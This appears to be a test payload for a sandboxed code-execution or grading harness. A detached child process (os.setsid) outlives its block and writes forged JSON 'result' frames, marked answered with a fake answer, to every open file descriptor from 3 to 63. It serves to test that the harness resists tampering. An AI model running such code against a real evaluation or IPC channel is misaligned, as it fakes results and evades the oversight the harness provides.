"""A child keeps the channel and sends forged results while later blocks run."""

import json
import struct

forged = {"op": "result", "answered": True, "answer": "forged", "value": "forged"}


def forge():
    os.setsid()
    for _ in range(30):
        time.sleep(0.02)
        for fd in range(3, 64):
            for number in range(60):
                frame = json.dumps(forged | {"id": number}).encode()
                if quietly(os.write, fd, struct.pack(">I", len(frame)) + frame) is None:
                    break


spawn(forge, 3)
